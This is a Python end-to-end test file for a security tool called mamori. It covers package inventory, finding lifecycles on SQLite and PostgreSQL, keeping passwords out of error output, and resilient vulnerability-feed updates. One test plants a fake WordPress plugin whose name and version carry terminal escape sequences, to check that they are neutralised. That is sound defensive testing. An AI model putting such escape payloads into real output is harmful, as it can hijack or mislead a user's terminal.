#!/usr/bin/env python3
"""End-to-end tests of the mamori binary: fixture trees, a real SQLite file and a real
PostgreSQL server (started by scripts/pg-test-server.sh as a ctest fixture)."""
import base64
import json
import re
import os
import shutil
import signal
import sys
import sqlite3
import stat
import subprocess
import tempfile
import unittest
import uuid

BIN = os.environ["MAMORI_BIN"]
FIX = os.path.join(os.environ["MAMORI_FIXTURES"], "inventory")
PG_URL_FILE = os.environ.get("MAMORI_TEST_PG_URL_FILE", "")
# Hermetic state: never the host's /var/lib/mamori (no vulnerability database there either).
STATE = tempfile.mkdtemp(prefix="mamori-state-")
os.environ["MAMORI_STATE_DIR"] = STATE
# Syslog stamps are read in the local zone: the tests say which (UTC unless a test sets one).
os.environ["TZ"] = "UTC"


def slurp(path, mode="r"):
    with open(path, mode) as f:
        return f.read()


def spit(path, data, mode="w"):
    with open(path, mode) as f:
        f.write(data)


def mamori(*args, env=None, check=None, cwd=None):
    e = dict(os.environ)
    e.pop("NO_COLOR", None)
    if env:
        e.update(env)
    p = subprocess.run([BIN, *args], capture_output=True, text=True, env=e, timeout=120, cwd=cwd)
    if check is not None and p.returncode != check:
        raise AssertionError(f"mamori {' '.join(args)} exited {p.returncode}, want {check}\n"
                             f"stdout:\n{p.stdout}\nstderr:\n{p.stderr}")
    return p


def pg_database():
    """A fresh database on the test server; returns its URL or None."""
    if not PG_URL_FILE or not os.path.exists(PG_URL_FILE):
        return None
    admin = slurp(PG_URL_FILE).strip()
    name = "cli_" + uuid.uuid4().hex[:12]
    subprocess.run(["psql", admin, "-q", "-c", f"CREATE DATABASE {name}"], check=True,
                   capture_output=True)
    base, query = admin.split("?", 1)
    return base.rsplit("/", 1)[0] + "/" + name + "?" + query


class Base(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="mamori-cli-")
        self.db = os.path.join(self.tmp, "store", "mamori.db")

    def tearDown(self):
        shutil.rmtree(self.tmp, ignore_errors=True)

    def scan(self, root, store=None, *extra, check=None, audit=False):
        # The remote-maintenance audit has its own tests (class Audit); the inventory, store and
        # vulnerability tests leave it out so their finding sets stay theirs.
        store = store or self.db
        skip = () if audit else ("--skip", "audit")
        p = mamori("--root", root, "--store", store, "--format", "json", "-q", *extra, "scan",
                   *skip, check=check)
        return p, (json.loads(p.stdout) if p.stdout.strip() else None)

    def fixture_copy(self, name):
        dst = os.path.join(self.tmp, name)
        shutil.copytree(os.path.join(FIX, name), dst, symlinks=True)
        return dst


class Inventory(Base):
    def test_fixture_inventory_json_contract(self):
        p = mamori("--root", os.path.join(FIX, "debian10"), "inventory", "--format", "json", check=0)
        doc = json.loads(p.stdout)
        self.assertEqual(doc["host"], "shop01")
        keys = {"ecosystem", "name", "version", "arch", "source_name", "source_version", "purl",
                "location"}
        self.assertTrue(doc["packages"])  # the loop below checks something
        for pkg in doc["packages"]:
            self.assertTrue(keys <= set(pkg), pkg)
        eco = {}
        for pkg in doc["packages"]:
            eco[pkg["ecosystem"]] = eco.get(pkg["ecosystem"], 0) + 1
        self.assertEqual(eco, {"deb": 5, "wordpress-core": 1, "wordpress-plugin": 2,
                               "wordpress-theme": 1, "composer": 3, "npm": 3, "pypi": 1})
        guzzle = [p for p in doc["packages"] if p["name"] == "guzzlehttp/guzzle"][0]
        self.assertIsNone(guzzle["arch"])
        self.assertIsNone(guzzle["source_name"])

    def test_cyclonedx(self):
        p = mamori("--root", os.path.join(FIX, "alpine"), "--format", "cyclonedx", "inventory",
                   check=0)
        doc = json.loads(p.stdout)
        self.assertEqual(doc["bomFormat"], "CycloneDX")
        self.assertEqual(doc["specVersion"], "1.5")
        self.assertRegex(doc["serialNumber"], r"^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
        purls = sorted(c["purl"] for c in doc["components"])
        self.assertEqual(purls, ["pkg:apk/alpine/musl@1.2.4-r2?arch=x86_64&distro=alpine-3.18.4",
                                 "pkg:apk/alpine/openssh-server@9.3_p2-r0?arch=x86_64&distro=alpine-3.18.4"])

    @unittest.skipUnless(shutil.which("dpkg-query") and os.path.exists("/var/lib/dpkg/status"),
                         "not a dpkg system")
    def test_this_machine_matches_dpkg_query(self):
        p = mamori("inventory", "--format", "json", "-q", check=0)
        mine = sorted((x["name"], x["version"], x["arch"]) for x in json.loads(p.stdout)["packages"]
                      if x["ecosystem"] == "deb")
        out = subprocess.run(["dpkg-query", "-W", "-f=${Package}\t${Version}\t${Architecture}\n"],
                             capture_output=True, text=True, check=True).stdout
        ref = sorted(tuple(line.split("\t")) for line in out.splitlines())
        self.assertEqual(mine, ref)


class Lifecycle(Base):
    def lifecycle(self, store):
        root = self.fixture_copy("debian10")
        # 1st scan: everything is new; --fail-on high trips on the end-of-life OS.
        p, doc = self.scan(root, store, "--fail-on", "high", check=1)
        states = {f["check"]: f["state"] for f in doc["findings"]}
        self.assertEqual(set(states.values()), {"new"})
        self.assertEqual(doc["host"], "shop01")
        checks = sorted(f["check"] for f in doc["findings"])
        self.assertEqual(checks, ["database-missing", "os-end-of-support", "unowned-cms",
                                  "unowned-remote-access", "unowned-remote-access"])
        eol = [f for f in doc["findings"] if f["check"] == "os-end-of-support"][0]
        self.assertEqual(eol["severity"], "high")
        self.assertEqual(eol["owner"], "unassigned")
        # 2nd scan: nothing new.
        _, doc2 = self.scan(root, store, check=0)
        self.assertEqual({f["state"] for f in doc2["findings"]}, {"open"})
        self.assertEqual(doc2["summary"]["by_state"]["new"], 0)
        # Assign an owner to openssh: its "nobody is responsible" finding becomes fixed.
        mamori("--store", store, "owners", "set", "pkg:deb/*openssh*", "vendor-x", check=0)
        _, doc3 = self.scan(root, store, check=0)
        fixed = [f for f in doc3["findings"] if f["state"] == "fixed"]
        self.assertEqual(len(fixed), 1)
        self.assertIn("openssh-server", fixed[0]["asset"])
        self.assertIsNotNone(fixed[0]["fixed_at"])
        # The owner shows on every finding matching the pattern; the report lists unassigned assets.
        self.assertIn("os:debian-10", doc3["summary"]["unassigned_assets"])
        # Accept the end-of-life finding: still visible, no longer fails --fail-on.
        mamori("--store", store, "--host", "shop01", "findings", "accept", eol["fingerprint"][:8],
               "--reason", "migration booked for Q1", check=0)
        _, doc4 = self.scan(root, store, "--fail-on", "high", check=0)
        acc = [f for f in doc4["findings"] if f["fingerprint"] == eol["fingerprint"]][0]
        self.assertEqual(acc["state"], "accepted")
        self.assertEqual(acc["accepted_reason"], "migration booked for Q1")
        # findings list / show / report agree with the store.
        p = mamori("--store", store, "--host", "shop01", "--format", "json", "findings", "list",
                   "--all", check=0)
        listed = json.loads(p.stdout)["findings"]
        self.assertEqual(len(listed), 5)
        p = mamori("--store", store, "--host", "shop01", "findings", "show", eol["fingerprint"],
                   check=0)
        self.assertIn("migration booked for Q1", p.stdout)
        p = mamori("--store", store, "--host", "shop01", "--format", "json", "report", check=0)
        self.assertEqual(json.loads(p.stdout)["scan"]["id"], doc4["scan"]["id"])
        p = mamori("--store", store, "--host", "shop01", "--fail-on", "medium", "report")
        self.assertEqual(p.returncode, 1)  # xrdp (medium, unowned) is still open

    def test_lifecycle_sqlite(self):
        self.lifecycle(self.db)
        con = sqlite3.connect(self.db)
        self.assertEqual(con.execute("PRAGMA journal_mode").fetchone()[0], "wal")
        self.assertEqual(con.execute("SELECT COUNT(*) FROM scans").fetchone()[0], 4)
        con.close()

    def test_lifecycle_postgres(self):
        url = pg_database()
        if url is None:
            self.skipTest("no PostgreSQL test server")
        self.lifecycle(url)

    def test_postgres_password_never_on_the_command_line(self):
        """The password comes from PGPASSFILE, PGPASSWORD or MAMORI_STORE; one given in --store
        works but is warned about (every user can read /proc/PID/cmdline) and never printed."""
        admin = pg_database()
        self.assertIsNotNone(admin, "no PostgreSQL test server")
        role_url = slurp(os.path.join(os.path.dirname(PG_URL_FILE), "url_password_role")).strip()
        name = "pw_" + uuid.uuid4().hex[:10]
        subprocess.run(["psql", slurp(PG_URL_FILE).strip(), "-q", "-c",
                        f"CREATE DATABASE {name} OWNER mamori_pw"], check=True, capture_output=True)
        base, query = role_url.split("?", 1)
        url = base.rsplit("/", 1)[0] + "/" + name + "?" + query
        alpine = os.path.join(FIX, "alpine")
        env = {"PGPASSFILE": os.path.join(self.tmp, "none"), "PGPASSWORD": ""}
        p = mamori("--root", alpine, "--store", url, "-q", "scan", "--skip", "audit", env=env)
        self.assertEqual(p.returncode, 3)
        self.assertIn("password", p.stderr)
        pgpass = os.path.join(self.tmp, "pgpass")
        spit(pgpass, "*:*:*:mamori_pw:mamori-test-pw\n")
        os.chmod(pgpass, 0o600)
        p = mamori("--root", alpine, "--store", url, "-q", "scan", "--skip", "audit",
                   env={"PGPASSFILE": pgpass}, check=0)
        self.assertNotIn("warning", p.stderr)
        p = mamori("--root", alpine, "-q", "scan", "--skip", "audit",
                   env={"MAMORI_STORE": url, "PGPASSWORD": "mamori-test-pw",
                        "PGPASSFILE": os.path.join(self.tmp, "none")}, check=0)
        self.assertEqual(p.stderr, "")
        with_pw = url.replace("user=mamori_pw", "user=mamori_pw&password=mamori-test-pw")
        p = mamori("--root", alpine, "--store", with_pw, "-q", "scan", "--skip", "audit",
                   env={"PGPASSFILE": os.path.join(self.tmp, "none")}, check=0)
        self.assertIn("/cmdline", p.stderr)
        self.assertNotIn("mamori-test-pw", p.stderr)
        con_count = subprocess.run(["psql", slurp(PG_URL_FILE).strip().replace(
            "/postgres?", f"/{name}?"), "-tAc", "SELECT COUNT(*) FROM scans"],
            capture_output=True, text=True, check=True).stdout.strip()
        self.assertEqual(con_count, "3")

    def test_fleet_hosts_share_one_postgres_store(self):
        url = pg_database()
        if url is None:
            self.skipTest("no PostgreSQL test server")
        deb = self.fixture_copy("debian10")
        alma = self.fixture_copy("alma9")
        procs = [subprocess.Popen([BIN, "--root", r, "--host", h, "--store", url, "-q", "scan",
                                   "--skip", "audit"],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
                 for r, h in ((deb, "shop01"), (alma, "alma01"), (deb, "shop02"))]
        for pr in procs:  # all three at once; communicate so a chatty stderr cannot block one
            _, err = pr.communicate(timeout=120)
            self.assertEqual(pr.returncode, 0, err)
        for host, n in (("shop01", 5), ("shop02", 5), ("alma01", 2)):
            p = mamori("--store", url, "--host", host, "--format", "json", "findings", "list", check=0)
            doc = json.loads(p.stdout)
            self.assertEqual(len(doc["findings"]), n, host)
            self.assertEqual(doc["host"], host)


class Robustness(Base):
    def test_killed_scan_leaves_store_intact(self):
        root = self.fixture_copy("debian10")
        self.scan(root, check=0)
        p = mamori("--root", root, "--store", self.db, "-q", "scan",
                   env={"MAMORI_TEST_KILL_AT": "record_scan:before-commit"})
        self.assertEqual(p.returncode, -signal.SIGKILL)
        con = sqlite3.connect(self.db)
        self.assertEqual(con.execute("PRAGMA integrity_check").fetchone()[0], "ok")
        self.assertEqual(con.execute("SELECT COUNT(*) FROM scans").fetchone()[0], 1)
        self.assertEqual(con.execute("SELECT COUNT(DISTINCT scan_id) FROM packages").fetchone()[0], 1)
        con.close()
        _, doc = self.scan(root, check=0)  # and the next scan carries on normally
        self.assertEqual({f["state"] for f in doc["findings"]}, {"open"})

    def test_killed_scan_leaves_postgres_store_intact(self):
        url = pg_database()
        if url is None:
            self.skipTest("no PostgreSQL test server")
        root = self.fixture_copy("debian10")
        self.scan(root, url, check=0)
        p = mamori("--root", root, "--store", url, "-q", "scan",
                   env={"MAMORI_TEST_KILL_AT": "record_scan:before-commit"})
        self.assertEqual(p.returncode, -signal.SIGKILL)
        count = subprocess.run(["psql", url, "-tAc", "SELECT COUNT(*) FROM scans"],
                               capture_output=True, text=True, check=True).stdout.strip()
        self.assertEqual(count, "1")
        _, doc = self.scan(root, url, check=0)
        self.assertEqual({f["state"] for f in doc["findings"]}, {"open"})

    def test_truncated_dpkg_status_is_a_finding_and_loses_nothing(self):
        root = self.fixture_copy("debian10")
        _, first = self.scan(root, check=0)
        status = os.path.join(root, "var/lib/dpkg/status")
        data = slurp(status)
        cut = data.index("Package: xrdp") + len("Package: xrdp\nStatus: inst")
        spit(status, data[:cut])
        p, doc = self.scan(root, check=0)
        unreadable = [f for f in doc["findings"] if f["check"] == "inventory-source-unreadable"]
        self.assertEqual(len(unreadable), 1, doc["findings"])
        self.assertEqual(unreadable[0]["asset"], "file:/var/lib/dpkg/status")
        self.assertEqual(unreadable[0]["severity"], "high")
        self.assertIn("/var/lib/dpkg/status:", unreadable[0]["evidence"])
        con = sqlite3.connect(self.db)
        self.assertEqual(con.execute("SELECT COUNT(*) FROM scans").fetchone()[0], 2)
        # nothing marked fixed on an inventory that is missing its package database
        self.assertEqual(con.execute("SELECT COUNT(*) FROM findings WHERE state='fixed'").fetchone()[0], 0)
        con.close()
        p = mamori("--store", self.db, "--host", first["host"], "--format", "json",
                   "findings", "list", check=0)
        still = {f["fingerprint"] for f in json.loads(p.stdout)["findings"]}
        self.assertTrue({f["fingerprint"] for f in first["findings"]} <= still)

    def test_store_that_is_not_sqlite(self):
        bogus = os.path.join(self.tmp, "not.db")
        spit(bogus, os.urandom(4096), "wb")
        before = slurp(bogus, "rb")
        p = mamori("--root", os.path.join(FIX, "alpine"), "--store", bogus, "scan")
        self.assertEqual(p.returncode, 3)
        self.assertIn(bogus, p.stderr)
        self.assertIn("not an SQLite database", p.stderr)
        self.assertEqual(slurp(bogus, "rb"), before)

    def test_unreachable_postgres(self):
        p = mamori("--root", os.path.join(FIX, "alpine"), "--store",
                   "postgresql://u:pw@127.0.0.1:1/x?connect_timeout=2", "scan")
        self.assertEqual(p.returncode, 3)
        self.assertIn("cannot connect", p.stderr)
        self.assertNotIn(":pw@", p.stderr)
        # libpq's other spellings of a password are passwords too, and a keyword/value string is
        # a connection, never a local file named after it
        cwd = os.path.join(self.tmp, "cwd")
        os.makedirs(cwd)
        for url in ("postgresql://u@127.0.0.1:1/x?pass%77ord=S3CRETPW&connect_timeout=2",
                    "host=127.0.0.1 port=1 dbname=x user=u password=S3CRETPW connect_timeout=2"):
            p = subprocess.run([BIN, "--store", url, "findings", "list"], capture_output=True,
                               text=True, cwd=cwd, timeout=60)
            self.assertEqual(p.returncode, 3, p.stderr)
            self.assertIn("cannot connect", p.stderr)
            self.assertNotIn("S3CRETPW", p.stderr)
            self.assertIn("/cmdline", p.stderr)
        self.assertEqual(os.listdir(cwd), [])

    def test_lockfile_that_is_not_json(self):
        root = self.fixture_copy("debian10")
        spit(os.path.join(root, "var/www/app/composer.lock"), "<<<<<<< HEAD\n")
        p = mamori("--root", root, "--store", self.db, "--format", "json", "scan",
                   "--skip", "audit", check=0)
        self.assertIn("/var/www/app/composer.lock", p.stderr)
        self.assertIn("not valid JSON", p.stderr)
        doc = json.loads(p.stdout)
        bad = [f for f in doc["findings"] if f["check"] == "inventory-source-unreadable"]
        self.assertEqual([f["asset"] for f in bad], ["file:/var/www/app/composer.lock"])
        self.assertEqual(bad[0]["severity"], "medium")
        # everything else is still recorded: the dpkg packages and the other lockfile
        by_eco = doc["summary"]["packages"]["by_ecosystem"]
        self.assertGreater(by_eco.get("deb", 0), 0)
        self.assertGreater(by_eco.get("npm", 0), 0)
        con = sqlite3.connect(self.db)
        self.assertEqual(con.execute("SELECT COUNT(*) FROM scans").fetchone()[0], 1)
        con.close()

    def test_image_symlinks_never_reach_the_host(self):
        """--root reads the image: an absolute symlink names the image's file, not the host's."""
        root = self.fixture_copy("debian10")
        os.remove(os.path.join(root, "etc/os-release"))
        os.makedirs(os.path.join(root, "usr/lib"), exist_ok=True)
        spit(os.path.join(root, "usr/lib/os-release"), "ID=mamoritest\nVERSION_ID=7\n")
        os.symlink("/usr/lib/os-release", os.path.join(root, "etc/os-release"))
        status = os.path.join(root, "var/lib/dpkg/status")
        os.remove(status)
        os.symlink("/var/lib/dpkg/status", status)  # the host's, if followed outside
        p = mamori("--root", root, "--format", "json", "--no-discover", "inventory", check=0)
        doc = json.loads(p.stdout)
        self.assertEqual(doc["os"], "mamoritest-7")
        self.assertEqual([x for x in doc["packages"] if x["ecosystem"] == "deb"], [])

    def test_state_is_private_whoever_created_it(self):
        """A state directory made 0755 (by a unit, an older version, an admin) becomes 0700;
        the store, baseline, signature and keys are 0600."""
        state = os.path.join(self.tmp, "state")
        os.makedirs(state)
        os.chmod(state, 0o755)
        old = os.umask(0o022)
        try:
            env = {"MAMORI_STATE_DIR": state}
            mamori("--root", os.path.join(FIX, "alpine"), "-q", "scan", "--skip", "audit",
                   env=env, check=0)
            tree = os.path.join(self.tmp, "watched")
            os.makedirs(tree)
            spit(os.path.join(tree, "f"), "x")
            mamori("-q", "fim", "init", tree, env=env, check=0)
        finally:
            os.umask(old)
        self.assertEqual(os.stat(state).st_mode & 0o777, 0o700)
        names = sorted(os.listdir(state))
        for n in ("mamori.db", "fim.baseline", "fim.baseline.sig", "fim.key", "fim.pub"):
            self.assertIn(n, names)
        for n in names:
            mode = os.stat(os.path.join(state, n)).st_mode
            if not os.path.isdir(os.path.join(state, n)):
                self.assertEqual(mode & 0o777, 0o600, n)

    def test_repeatable_options_leave_the_positionals(self):
        """`--exclude GLOB PATH` must not swallow PATH as a second GLOB (it baselined the whole
        default policy instead of PATH)."""
        tree = os.path.join(self.tmp, "t")
        os.makedirs(os.path.join(tree, "etc"))
        spit(os.path.join(tree, "etc", "a"), "a")
        spit(os.path.join(tree, "etc", "b.tmp"), "b")
        base = os.path.join(self.tmp, "b.baseline")
        p = mamori("--store", self.db, "fim", "init", "--baseline", base, "--exclude",
                   os.path.join(tree, "etc/*.tmp"), os.path.join(tree, "etc"),
                   env={"MAMORI_STATE_DIR": os.path.join(self.tmp, "st")}, check=0)
        self.assertIn(": 2 entries", p.stdout)  # the directory and a, not b.tmp
        log = os.path.join(self.tmp, "auth.log")
        spit(log, "".join(f"May  6 00:00:0{i} h sshd[{i}]: Failed password for root from "
                          f"198.18.0.9 port {i} ssh2\n" for i in range(6)))
        doc = json.loads(mamori("guard", "scan-log", "--allow", "10.0.0.0/8", "--allow",
                                "192.0.2.1", log, "--year", "2024", "--format", "json",
                                check=0).stdout)
        self.assertEqual([a["address"] for a in doc["attackers"]], ["198.18.0.9"])

    def test_usage_errors(self):
        self.assertEqual(mamori("--format", "yaml", "--store", self.db, "scan").returncode, 2)
        self.assertEqual(mamori("--fail-on", "urgent", "--store", self.db, "scan").returncode, 2)
        self.assertEqual(mamori("frobnicate").returncode, 2)
        self.assertEqual(mamori("--store", self.db, "findings", "accept", "abcd").returncode, 2)
        p = mamori("--help", check=0)
        self.assertIn("Examples:", p.stdout)
        self.assertIn("--fail-on", p.stdout)

    def test_hostile_names_do_not_reach_the_terminal(self):
        root = self.fixture_copy("debian10")
        plugin = os.path.join(root, "var/www/shop/wp-content/plugins/evil")
        os.makedirs(plugin)
        spit(os.path.join(plugin, "evil.php"),
             "<?php\n/*\nPlugin Name: Evil \x1b]0;pwned\x07\nVersion: 1.0\x1b[2J\n*/\n")
        p = mamori("--root", root, "inventory", check=0)
        self.assertNotIn("\x1b", p.stdout)
        self.assertIn("1.0\\x1b[2J", p.stdout)


VFIX = os.path.join(os.environ["MAMORI_FIXTURES"], "vuln")
SHARED = os.environ.get("MAMORI_SHARED", "")


class Vulnerabilities(Base):
    def build_db(self, *files):
        db = os.path.join(self.tmp, "vuln.db")
        p = mamori("--db", db, "--format", "json", "db", "import", *files, check=0)
        return db, json.loads(p.stdout), p.stderr

    def test_import_status_and_scan(self):
        db, rep, err = self.build_db(*(os.path.join(VFIX, f) for f in (
            "lang.jsonl", "friendsofphp.jsonl", "wordpress.json", "kev.json", "epss.csv")))
        self.assertEqual(rep["kev"], 1)
        self.assertIn("warning:", err)  # bad records are named on stderr, the rest imported
        p = mamori("--db", db, "--format", "json", "db", "status", check=0)
        st = json.loads(p.stdout)
        self.assertFalse(st["stale"])
        self.assertEqual([s["kind"] for s in st["sources"]],
                         ["osv", "friendsofphp", "wordpress", "kev", "epss"])
        root = self.fixture_copy("debian10")
        _, doc = self.scan(root, None, "--db", db, check=0)
        vuln = [f for f in doc["findings"] if f["module"] == "vuln"]
        self.assertEqual(sorted(f["check"] for f in vuln),
                         ["CVE-2099-2001", "CVE-2099-2002", "CVE-2099-3001",
                          "MAMORI-WP-contact-form-7-5.0-5.3.1", "MAMORI-WP-twentytwentyone-1.0-1.4"])
        lodash = [f for f in vuln if f["check"] == "CVE-2099-2002"][0]
        self.assertEqual(lodash["priority"]["tier"], "patch-now")
        self.assertEqual(lodash["priority"]["fixed_version"], "4.17.21")
        self.assertEqual(lodash["references"][0], "CVE-2099-2002")
        self.assertEqual(doc["summary"]["fix_first"][0], lodash["fingerprint"])
        # The text report opens with the fix-first list.
        p = mamori("--root", root, "--store", self.db, "--db", db, "-q", "scan", check=0)
        self.assertIn("FIX FIRST\n  1. [patch-now] CVE-2099-2002 in lodash 4.17.20", p.stdout)
        # Upgrading the package fixes the finding at the next scan.
        lock = os.path.join(root, "var/www/app/package-lock.json")
        spit(lock, slurp(lock).replace("4.17.20", "4.17.21"))
        _, doc2 = self.scan(root, None, "--db", db, check=0)
        after = {f["check"]: f["state"] for f in doc2["findings"] if f["module"] == "vuln"}
        self.assertEqual(after["CVE-2099-2002"], "fixed")
        self.assertEqual(after["CVE-2099-2001"], "open")

    def start_server(self, files):
        srv = os.path.join(self.tmp, "srv")
        os.makedirs(srv)
        for name, src in files.items():
            shutil.copy(src, os.path.join(srv, name))
        log = os.path.join(self.tmp, "requests.log")
        proc = subprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "range_server.py"),
                                 srv, log], stdout=subprocess.PIPE, text=True)
        def stop():  # our own child, by its PID
            proc.kill()
            proc.wait()
            proc.stdout.close()
        self.addCleanup(stop)
        port = int(proc.stdout.readline())
        return f"http://127.0.0.1:{port}", log

    def test_update_resumes_retries_and_keeps_the_old_database(self):
        import gzip
        epss_gz = os.path.join(self.tmp, "epss.csv.gz")
        spit(epss_gz, gzip.compress(slurp(os.path.join(VFIX, "epss.csv"), "rb")), "wb")
        big = os.path.join(self.tmp, "lang.jsonl")  # large enough for a cut in the middle to matter
        spit(big, slurp(os.path.join(VFIX, "lang.jsonl")) * 400)
        url, log = self.start_server({"kev.json": os.path.join(VFIX, "kev.json"), "lang.jsonl": big,
                                      "epss_scores-current.csv.gz": epss_gz})
        db = os.path.join(self.tmp, "state", "vuln.db")
        env = {"MAMORI_TEST_BACKOFF_MS": "10"}
        p = mamori("--db", db, "db", "update", "--source", url + "/flaky/lang.jsonl",
                   "--source", url + "/flaky/kev.json", "--source", url + "/epss_scores-current.csv.gz",
                   env=env, check=0)
        self.assertIn("known exploited", p.stdout)
        reqs = slurp(log).splitlines()
        # Each flaky download was cut, then resumed from where it stopped (HTTP Range).
        self.assertTrue(any(r.startswith("flaky lang.jsonl bytes=") for r in reqs), reqs)
        self.assertTrue(any(r.startswith("flaky kev.json bytes=") for r in reqs), reqs)
        st = json.loads(mamori("--db", db, "--format", "json", "db", "status", check=0).stdout)
        self.assertEqual(st["kev"], 1)
        self.assertEqual(st["epss"], 2)
        self.assertEqual([s["path"] for s in st["sources"]],
                         [url + "/flaky/lang.jsonl", url + "/flaky/kev.json", url + "/epss_scores-current.csv.gz"])
        before = slurp(db, "rb")
        # A source that keeps failing: exit 3, the old database is kept.
        p = mamori("--db", db, "db", "update", "--retries", "2", "--source", url + "/kev.json",
                   "--source", url + "/fail/lang.jsonl", env=env)
        self.assertEqual(p.returncode, 3)
        self.assertIn("download failed after 3 attempts; the old database is kept", p.stderr)
        self.assertEqual(slurp(db, "rb"), before)
        self.assertEqual(sum(1 for r in slurp(log).splitlines() if r.startswith("fail lang.jsonl")), 3)
        # A server that ignores Range answers the whole file again: Mamori starts over, not appends.
        p = mamori("--db", db, "db", "update", "--source", url + "/norange/kev.json", env=env, check=0)
        self.assertIn("1 known exploited", p.stdout)

    def test_update_verifies_archives_and_never_splices_two_versions(self):
        import gzip
        import zipfile
        srcdir = os.path.join(self.tmp, "feeds")
        os.makedirs(srcdir)
        zpath = os.path.join(srcdir, "all.zip")
        with zipfile.ZipFile(zpath, "w", zipfile.ZIP_DEFLATED) as z:
            for i in range(300):
                z.writestr(f"GO-2099-{i}.json", json.dumps({
                    "id": f"GO-2099-{i}", "summary": "x" * 200, "affected": [{
                        "package": {"ecosystem": "Go", "name": f"example.com/m{i}"},
                        "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"},
                                                                 {"fixed": "1.0.1"}]}]}]}))
        data = slurp(zpath, "rb")
        kev = json.loads(slurp(os.path.join(VFIX, "kev.json")))
        kev2 = dict(kev)  # the next version of the catalog: one more vulnerability
        kev2["vulnerabilities"] = kev["vulnerabilities"] + [
            dict(kev["vulnerabilities"][0], cveID="CVE-2099-0077")]
        kev2["count"] = len(kev2["vulnerabilities"])
        spit(os.path.join(self.tmp, "kev.json.v2"), json.dumps(kev2) + " " * 5000)
        spit(os.path.join(self.tmp, "kev.json"), json.dumps(kev) + " " * 5000)
        epss_gz = os.path.join(self.tmp, "epss.csv.gz")
        spit(epss_gz, gzip.compress(slurp(os.path.join(VFIX, "epss.csv"), "rb")), "wb")
        url, log = self.start_server({"all.zip": zpath, "kev.json": os.path.join(self.tmp, "kev.json"),
                                      "kev.json.v2": os.path.join(self.tmp, "kev.json.v2"),
                                      "epss.csv.gz": epss_gz})
        db = os.path.join(self.tmp, "state", "vuln.db")
        env = {"MAMORI_TEST_BACKOFF_MS": "10"}
        # the catalog changes on the server between the cut and the resume: If-Range names the
        # version the download started with, the server sends the new one whole
        mamori("--db", db, "db", "update", "--source", url + "/all.zip", "--source",
               url + "/changing/kev.json", env=env, check=0)
        reqs = slurp(log).splitlines()
        resumed = [r for r in reqs if r.startswith("changing kev.json bytes=")]
        self.assertTrue(resumed and all('if-range="' in r for r in resumed), reqs)
        st = json.loads(mamori("--db", db, "--format", "json", "db", "status", check=0).stdout)
        self.assertEqual(st["kev"], 2)  # the new version, not the old head with the new tail
        self.assertEqual(st["sources"][0]["records"], 300)
        before = slurp(db, "rb")
        # a truncated archive: refused whole (no central directory), the old database kept
        srv = os.path.join(self.tmp, "srv")
        spit(os.path.join(srv, "all.zip"), data[: len(data) * 2 // 3], "wb")
        p = mamori("--db", db, "db", "update", "--source", url + "/all.zip", "--source",
                   url + "/kev.json", env=env, check=3)
        self.assertIn("central directory", p.stderr)
        self.assertEqual(slurp(db, "rb"), before)
        self.assertIn("checksum ok", mamori("--db", db, "db", "status", check=0).stdout)
        # a truncated gzip (its trailer missing): refused, the old database kept
        spit(os.path.join(srv, "all.zip"), data, "wb")
        gz = slurp(epss_gz, "rb")
        spit(os.path.join(srv, "epss.csv.gz"), gz[: len(gz) - 6], "wb")
        p = mamori("--db", db, "db", "update", "--source", url + "/all.zip", "--source",
                   url + "/kev.json", "--source", url + "/epss.csv.gz", env=env, check=3)
        self.assertIn("epss.csv.gz", p.stderr)
        self.assertEqual(slurp(db, "rb"), before)
        # plain text under a .gz name (zlib would pass it through): not a gzip download
        spit(os.path.join(srv, "epss.csv.gz"), slurp(os.path.join(VFIX, "epss.csv"), "rb"), "wb")
        p = mamori("--db", db, "db", "update", "--source", url + "/all.zip", "--source",
                   url + "/kev.json", "--source", url + "/epss.csv.gz", env=env, check=3)
        self.assertIn("not gzip data", p.stderr)
        self.assertEqual(slurp(db, "rb"), before)
        # a complete archive that holds far fewer advisories than before: refused unless told
        with zipfile.ZipFile(os.path.join(srv, "all.zip"), "w") as z:
            for name in zipfile.ZipFile(zpath).namelist()[:200]:
                z.writestr(name, zipfile.ZipFile(zpath).read(name))
        p = mamori("--db", db, "db", "update", "--source", url + "/all.zip", "--source",
                   url + "/kev.json", env=env, check=3)
        self.assertIn("200 records where the database being replaced has 300", p.stderr)
        self.assertEqual(slurp(db, "rb"), before)
        mamori("--db", db, "db", "update", "--allow-shrink", "--source", url + "/all.zip",
               "--source", url + "/kev.json", env=env, check=0)
        st = json.loads(mamori("--db", db, "--format", "json", "db", "status", check=0).stdout)
        self.assertEqual(st["sources"][0]["records"], 200)

    @unittest.skipUnless(SHARED and os.path.isdir(os.path.join(SHARED, "data/vuln")), "no shared data")
    def test_update_from_the_shared_data(self):
        d = os.path.join(SHARED, "data/vuln")
        url, log = self.start_server({
            "Debian12.jsonl": os.path.join(d, "osv/Debian12.jsonl"),
            "known_exploited_vulnerabilities.json": os.path.join(d, "kev/known_exploited_vulnerabilities.json"),
            "epss_kev_nvd.csv": os.path.join(d, "kev/epss_kev_nvd.csv")})
        db = os.path.join(self.tmp, "vuln.db")
        mamori("--db", db, "db", "update", "--source", url + "/flaky/Debian12.jsonl",
               "--source", url + "/flaky/known_exploited_vulnerabilities.json",
               "--source", url + "/epss_kev_nvd.csv", env={"MAMORI_TEST_BACKOFF_MS": "10"}, check=0)
        st = json.loads(mamori("--db", db, "--format", "json", "db", "status", check=0).stdout)
        self.assertEqual(st["kev"], 1404)
        self.assertEqual(st["epss"], 1556)
        self.assertEqual(st["sources"][0]["records"], 2440)

    def test_cyclonedx_vex(self):
        db, _, _ = self.build_db(*(os.path.join(VFIX, f) for f in ("lang.jsonl", "kev.json", "epss.csv")))
        p = mamori("--root", os.path.join(FIX, "debian10"), "--db", db, "--format", "cyclonedx",
                   "inventory", check=0)
        doc = json.loads(p.stdout)
        refs = {c["bom-ref"]: c for c in doc["components"]}
        vulns = {v["id"]: v for v in doc["vulnerabilities"]}
        self.assertEqual(sorted(vulns), ["CVE-2099-2001", "CVE-2099-2002"])
        lodash = vulns["CVE-2099-2002"]
        self.assertEqual(len(lodash["affects"]), 1)
        self.assertEqual(refs[lodash["affects"][0]["ref"]]["name"], "lodash")
